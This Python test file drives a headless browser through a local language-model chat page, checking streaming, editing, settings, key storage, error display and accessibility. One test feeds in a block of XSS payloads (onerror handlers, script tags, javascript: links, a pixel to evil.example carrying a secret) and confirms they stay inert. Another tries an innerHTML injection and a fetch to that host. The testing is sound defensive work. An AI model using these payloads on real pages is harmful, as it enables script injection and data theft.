"""The chat page in a headless Chromium, used as people use it. Skipped where no browser or no playwright is:
pip install 'qmix[browser]', and chromium or Google Chrome from the distribution."""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from serving import Running, ScriptedEngine, says, serving
from tokenizer_files import demo_folder

from qmix import load
from qmix.demo import demo_store
from qmix.tokenizer import Tokenizer
from qmix.tokenizer import load as load_tokenizer

playwright = pytest.importorskip("playwright.sync_api", reason="the extra `browser` is not installed")
NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
WIDE, NARROW = {"width": 1280, "height": 800}, {"width": 390, "height": 800}
STORY = "Once upon a time"
HOSTILE = """# Title

<img src=x onerror="window.hacked = 1"><script>window.hacked = 2</script><iframe src="https://evil.example"></iframe>

[click](javascript:window.hacked=3) ![pixel](https://evil.example/pixel.png?secret=1) <https://good.example/a>

<a href="#" id="question" name="send" style="position:fixed">over the page</a>

| a | b |
|---|---|
| 1 | `2` |

```html
<script>window.hacked = 4</script>
```

<details open ontoggle="window.hacked = 5"><svg onload="window.hacked = 6"><style>*{display:none}</style></details>

1. **bold** ~~gone~~

- [x] task
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    found = next(filter(None, map(shutil.which, NAMES)), None)
    if found is None:
        pytest.skip("no Chromium is here: " + ", ".join(NAMES))
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=found)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def tokenizer(tmp_path_factory: pytest.TempPathFactory) -> Tokenizer:
    return load_tokenizer(demo_folder(tmp_path_factory.mktemp("demo")))


@pytest.fixture
def engine(tokenizer: Tokenizer) -> ScriptedEngine:
    return ScriptedEngine(tokenizer, says(tokenizer, "the first answer", "the second answer", "the third answer"))


@pytest.fixture
def running(engine: ScriptedEngine) -> Iterator[Running]:
    with serving(lambda: engine) as running:
        yield running


class Tab:
    """One tab and what went wrong in it. Requests to other hosts are counted, and lead nowhere."""

    def __init__(self, context: Any, url: str):
        self.page = context.new_page()
        self.page.set_default_timeout(60_000)
        self.errors: list[str] = []
        self.elsewhere: list[str] = []
        self.asked: list[str] = []
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("console", lambda line: self.errors.append(line.text) if line.type == "error" else None)
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("request", lambda request: None if request.url.startswith(url)
                     else self.elsewhere.append(request.url))
        self.page.goto(url + "/")
        self.page.wait_for_selector("#model:not(:empty), dialog[open]")

    def ask(self, text: str) -> None:
        self.page.fill("#question", text)
        self.page.press("#question", "Enter")

    def wait(self) -> None:
        """Until the answer has ended."""
        self.page.wait_for_selector("li.assistant")
        self.page.wait_for_selector("#stop", state="hidden")

    def eventually(self, condition: Callable[[], bool]) -> None:
        """wait_for_function needs eval, which the page's policy forbids."""
        end = time.monotonic() + 60
        while not condition():
            assert time.monotonic() < end, "it does not come"
            self.page.wait_for_timeout(20)

    def texts(self) -> list[str]:
        return [text.strip() for text in self.page.locator("#messages > li > .text").all_inner_texts()]

    def until(self, want: list[str]) -> None:
        """Until the messages are these."""
        playwright.expect(self.page.locator("#messages > li > .text")).to_have_text(want, timeout=60_000)


@pytest.fixture
def tabs(browser: Any) -> Iterator[Callable[..., Tab]]:
    """Opens tabs, of one browser profile unless another one is asked for."""
    contexts: dict[tuple[Any, ...], Any] = {}
    opened: list[Tab] = []

    def open_tab(running: Running, profile: int = 0, size: dict[str, int] = WIDE, theme: str = "light") -> Tab:
        key = (profile, size["width"], theme)
        if key not in contexts:
            contexts[key] = browser.new_context(viewport=size, color_scheme=theme)
        opened.append(Tab(contexts[key], running.url))
        return opened[-1]

    yield open_tab
    for context in contexts.values():
        context.close()
    for tab in opened:
        assert tab.errors == [] and tab.elsewhere == []


def test_ask_stream_stop_regenerate_edit_and_reload(running: Running, engine: ScriptedEngine,
                                                    tabs: Callable[..., Tab]) -> None:
    tab = tabs(running)
    page = tab.page
    tab.ask("Hello")
    tab.wait()
    tab.until(["Hello", "the first answer"])
    assert "tokens/s" in page.locator(".tools").last.inner_text() and "#" in page.url

    engine.may_go.clear()  # the second answer stands still, and is stopped
    passes = engine.passes
    tab.ask("More")
    running.until(lambda: engine.passes > passes)
    page.keyboard.press("Escape")
    tab.wait()
    running.until(lambda: running.engine.running is None)
    engine.may_go.set()
    assert page.locator(".trouble").last.inner_text() == "Stopped."

    page.get_by_role("button", name="Answer again").last.click()
    tab.wait()
    tab.until(["Hello", "the first answer", "More", "the second answer"])
    playwright.expect(page.locator("#question")).to_be_focused()  # the button is gone: the keyboard has a place
    assert "2 of 2" in page.locator(".tools").last.inner_text()

    page.get_by_role("button", name="Edit this message").first.click()
    page.get_by_label("Edit the message").fill("Good morning")
    page.keyboard.press("Enter")
    tab.until(["Good morning", "the third answer"])
    tab.wait()
    page.reload()
    tab.until(["Good morning", "the third answer"])
    page.get_by_role("button", name="Earlier version").first.click()
    tab.until(["Hello", "the first answer", "More", "the second answer"])
    assert tab.texts()[-1] == "the second answer"


def test_a_reload_in_the_middle_keeps_what_had_come(tokenizer: Tokenizer, tabs: Callable[..., Tab]) -> None:
    engine = ScriptedEngine(tokenizer, says(tokenizer, "one two three four five six seven eight"))
    with serving(lambda: engine) as running:
        tab = tabs(running)
        engine.may_go.clear()
        tab.ask("Count")
        running.until(lambda: engine.passes > 0)
        tab.eventually(lambda: "#" in tab.page.url)
        tab.page.reload()
        tab.page.wait_for_selector(".trouble:not(:empty)")
        assert tab.texts()[0] == "Count" and "closed meanwhile" in tab.page.locator(".trouble").last.inner_text()
        running.until(lambda: running.engine.running is None)  # who leaves stops the computing
        engine.may_go.set()
        tab.page.get_by_role("button", name="Answer again").click()
        tab.wait()
        tab.until(["Count", "one two three four five six seven eight"])


def test_several_chats_are_kept_renamed_and_deleted(running: Running, tabs: Callable[..., Tab]) -> None:
    tab = tabs(running)
    page = tab.page
    for text in ("First chat", "Second chat"):
        page.get_by_role("button", name="New chat").click()
        tab.ask(text)
        tab.wait()
    links = page.locator("#list a")
    playwright.expect(links).to_have_text(["Second chat", "First chat"])
    links.nth(1).click()
    tab.until(["First chat", "the first answer"])
    page.get_by_role("button", name="Rename First chat").click()
    page.get_by_label("Title").fill("Renamed")
    page.keyboard.press("Enter")
    playwright.expect(page.get_by_role("link", name="Renamed")).to_be_visible()
    page.reload()
    tab.until(["First chat", "the first answer"])
    page.get_by_role("button", name="Delete Renamed").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    playwright.expect(links).to_have_text(["Second chat"])
    assert tab.texts() == []


def test_two_tabs_of_one_chat_lose_nothing(running: Running, engine: ScriptedEngine, tabs: Callable[..., Tab]) -> None:
    one = tabs(running)
    one.ask("Hello")
    one.wait()
    two = tabs(running)
    two.page.goto(one.page.url)
    two.until(["Hello", "the first answer"])
    two.ask("From two")
    two.wait()
    one.until(["Hello", "the first answer", "From two", "the second answer"])  # told by the other tab
    engine.may_go.clear()
    one.ask("Both")
    playwright.expect(two.page.locator("#messages > li")).to_have_count(6)
    two.ask("At once")  # while the other tab writes the chat
    playwright.expect(two.page.locator("#messages > li")).to_have_count(8)
    engine.may_go.set()
    one.wait()
    two.wait()
    playwright.expect(one.page.locator("#list a")).to_have_count(2)
    shown = one.texts() + two.texts()
    assert "Both" in shown and "At once" in shown
    assert one.page.is_visible("#notice") or two.page.is_visible("#notice")


def test_system_prompt_and_sampling_are_sent(running: Running, tabs: Callable[..., Tab]) -> None:
    tab = tabs(running)
    page = tab.page
    bodies: list[Any] = []
    page.on("request", lambda request: bodies.append(request.post_data_json) if request.method == "POST" else None)
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("System prompt").fill("Be short.")
    page.get_by_label("Temperature").fill("200")
    page.get_by_role("button", name="Save").click()
    playwright.expect(page.locator("#settings")).to_be_visible()  # 200 is too much
    page.get_by_label("Temperature").fill("0.5")
    page.get_by_label("Longest answer").fill("1")
    page.get_by_label("Colours").select_option("dark")
    page.get_by_role("button", name="Save").click()
    tab.ask("Hello")
    tab.wait()
    (body,) = bodies
    assert body["messages"] == [{"role": "system", "content": "Be short."}, {"role": "user", "content": "Hello"}]
    assert body["temperature"] == 0.5 and body["max_tokens"] == 1 and "top_p" not in body and body["model"] == "demo"
    assert "length limit" in page.locator(".trouble").last.inner_text()
    page.reload()
    assert page.locator("html").get_attribute("data-theme") == "dark"


def test_the_key_is_asked_for_and_kept_for_the_tab(engine: ScriptedEngine, tabs: Callable[..., Tab]) -> None:
    with serving(lambda: engine, keys=("secret",)) as running:
        tab = tabs(running)
        page = tab.page
        for given in ("wrong", "secret"):
            page.get_by_label("Key", exact=True).fill(given)
            page.keyboard.press("Enter")
            if given == "wrong":
                playwright.expect(page.locator("#key-text")).to_contain_text("does not take this key")
        playwright.expect(page.locator("#model")).to_have_text("demo")
        tab.ask("Hello")
        tab.wait()
        page.reload()
        tab.until(["Hello", "the first answer"])
        playwright.expect(page.locator("#model")).to_have_text("demo")
        assert page.evaluate("[localStorage.length && JSON.stringify(localStorage).includes('secret'), "
                             "sessionStorage.getItem('qmix.key')]") == [False, "secret"]
        assert tab.errors and all("401" in line for line in tab.errors)
        tab.errors.clear()


def test_what_a_model_writes_is_inert(tokenizer: Tokenizer, tabs: Callable[..., Tab]) -> None:
    engine = ScriptedEngine(tokenizer, says(tokenizer, HOSTILE))
    with serving(lambda: engine) as running:
        tab = tabs(running)
        page = tab.page
        tab.ask("<b>bold?</b>")
        tab.wait()
        answer = page.locator("li.assistant > .text")
        playwright.expect(answer.locator("table td").first).to_have_text("1")
        assert page.evaluate("window.hacked") is None
        assert answer.locator("script, img, iframe, svg, style, details, [style], [id], [name], [onerror]").count() == 0
        assert page.locator("li.user > .text").inner_text() == "<b>bold?</b>"
        assert "onerror" in answer.inner_text()  # shown, not run
        hrefs = [link.get_attribute("href") for link in answer.locator("a").all()]
        assert "https://good.example/a" in hrefs and not [one for one in hrefs if one and "javascript" in one]
        assert {link.get_attribute("rel") for link in answer.locator("a").all()} == {"noopener noreferrer nofollow"}
        assert answer.locator(".code pre").inner_text().strip() == "<script>window.hacked = 4</script>"
        assert answer.locator("strong").inner_text() == "bold" and answer.locator("h3").first.inner_text() == "Title"


def chunks(*deltas: dict[str, str], end: str = "data: [DONE]\n\n") -> str:
    said = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    return ": ping\n\n" + "".join(f"data: {json.dumps(one)}\n\n" for one in said) + end


def test_reasoning_is_folded_and_sent_back(running: Running, tabs: Callable[..., Tab]) -> None:
    tab = tabs(running)
    page = tab.page
    bodies: list[Any] = []

    def answer(route: Any) -> None:
        bodies.append(route.request.post_data_json)
        route.fulfill(content_type="text/event-stream", body=chunks(
            {"reasoning_content": "Let me *think*"}, {"reasoning_content": " more."}, {"content": "Forty-"},
            {"content": "two."}))

    page.route("**/v1/chat/completions", answer)
    tab.ask("What is it?")
    tab.wait()
    tab.until(["What is it?", "Forty-two."])
    thought = page.get_by_text("Let me think more.")
    playwright.expect(thought).to_be_hidden()
    page.locator("li.assistant summary").click()
    playwright.expect(thought).to_be_visible()
    tab.ask("Sure?")
    tab.wait()
    assert bodies[1]["messages"][1] == {"role": "assistant", "content": "Forty-two.",
                                        "reasoning_content": "Let me *think* more."}


@pytest.mark.parametrize(("end", "said"), [
    ("", "The connection broke before the answer was complete."),
    ('data: {"error": {"message": "the grammar cannot go on"}}\n\ndata: [DONE]\n\n', "the grammar cannot go on")])
def test_what_had_come_before_an_error_stays(running: Running, tabs: Callable[..., Tab], end: str, said: str) -> None:
    tab = tabs(running)
    tab.page.route("**/v1/chat/completions", lambda route: route.fulfill(
        content_type="text/event-stream", body=chunks({"content": "Half an"}, end=end)))
    tab.ask("Hello")
    tab.wait()
    tab.until(["Hello", "Half an"])
    playwright.expect(tab.page.locator("li.assistant .trouble")).to_have_text(said)


def test_what_the_server_refuses_is_told(tokenizer: Tokenizer, tabs: Callable[..., Tab]) -> None:
    engine = ScriptedEngine(tokenizer, says(tokenizer, "one"), context=16)
    with serving(lambda: engine) as running:
        tab = tabs(running)
        tab.ask("far too long " * 30)
        tab.wait()
        playwright.expect(tab.page.locator("li.assistant .trouble")).to_contain_text("the context holds 16")
        assert len(tab.errors) == 1 and "400" in tab.errors.pop()


def test_the_policy_stands_behind(running: Running, tabs: Callable[..., Tab]) -> None:
    """Even where a script of the page would put a text of a model into the page as HTML."""
    tab = tabs(running)
    with pytest.raises(playwright.Error, match="TrustedHTML"):
        tab.page.evaluate("document.body.innerHTML = '<img src=x onerror=alert(1)>'")
    with pytest.raises(playwright.Error, match="Failed to fetch"):
        tab.page.evaluate("fetch('https://evil.example/')")
    assert any("connect-src" in line for line in tab.errors)
    tab.errors.clear()
    tab.elsewhere.clear()


def test_storage_that_is_full_is_told(running: Running, tabs: Callable[..., Tab]) -> None:
    tab = tabs(running)
    tab.page.evaluate("""() => { IDBObjectStore.prototype.put = () => {
        throw new DOMException('full', 'QuotaExceededError'); }; }""")
    tab.ask("Hello")
    tab.wait()
    tab.until(["Hello", "the first answer"])
    playwright.expect(tab.page.locator("#notice")).to_contain_text("storage is full")
    playwright.expect(tab.page.locator("#list a")).to_have_text(["Hello"])  # in memory
    tab.page.get_by_role("button", name="New chat").click()
    tab.page.locator("#list a").click()
    tab.until(["Hello", "the first answer"])


def test_the_heat_map_moves_and_polling_ends_when_the_panel_is_closed(tmp_path: Path, tabs: Callable[..., Tab]) -> None:
    store = demo_store(tmp_path / "demo", lambda line: None)
    with serving(lambda: load(store, threads=1)) as running:
        tab = tabs(running)
        page = tab.page
        page.get_by_role("button", name="Live").click()
        playwright.expect(page.locator("#map-text")).to_contain_text("48 experts in 6 layers")
        picture = partial(page.evaluate, "document.getElementById('map').toDataURL()")
        before = picture()
        tab.ask("Tell me a story about a fox and a lantern.")
        tab.wait()
        tab.eventually(lambda: picture() != before)
        both = picture()
        page.get_by_label("Show").select_option("places")
        tab.eventually(lambda: picture() != both)
        page.get_by_text("The map as a table").click()
        rows = page.locator("#map-table tbody tr")
        playwright.expect(rows).to_have_count(6)
        assert "%" in rows.first.inner_text() and "8 of 8" in rows.first.inner_text()
        playwright.expect(page.locator("#figures")).to_contain_text("tokens/s")
        page.hover("#map", position={"x": 5, "y": 5})
        playwright.expect(page.locator("#map-cell")).to_contain_text("Layer 0, expert 0: in RAM, chosen by")
        page.get_by_role("button", name="Live").click()
        del tab.asked[:]
        page.wait_for_timeout(1500)
        assert tab.asked == []


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])
def test_axe_finds_nothing_serious(tokenizer: Tokenizer, tabs: Callable[..., Tab], size: dict[str, int],
                                   theme: str) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="the extra `browser` is not installed")
    engine = ScriptedEngine(tokenizer, says(tokenizer, HOSTILE))

    def check(page: Any, where: str) -> None:
        response = axe.Axe().run(page).response
        assert len(response["passes"]) > 20, "axe has not looked"
        found = [f"{where}: {one['id']}: {one['help']}: {[node['html'] for node in one['nodes'][:3]]}"
                 for one in response["violations"] if one["impact"] in ("serious", "critical")]
        assert found == []

    with serving(lambda: engine) as running:
        tab = tabs(running, size=size, theme=theme)
        page = tab.page
        check(page, "empty")
        tab.ask("Hello")
        tab.wait()
        page.get_by_role("button", name="Edit this message").click()
        check(page, "chat")
        if size is NARROW:
            page.get_by_role("button", name="Chats").click()
            check(page, "list")
            page.keyboard.press("Escape")
        page.get_by_role("button", name="Live").click()
        playwright.expect(page.locator("#map-text")).to_contain_text("experts in")
        page.get_by_text("The map as a table").click()
        check(page, "live")
        page.get_by_role("button", name="Settings").click()
        check(page, "settings")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "the page is wider than the screen"
        page.close()  # before the server, which it would ask
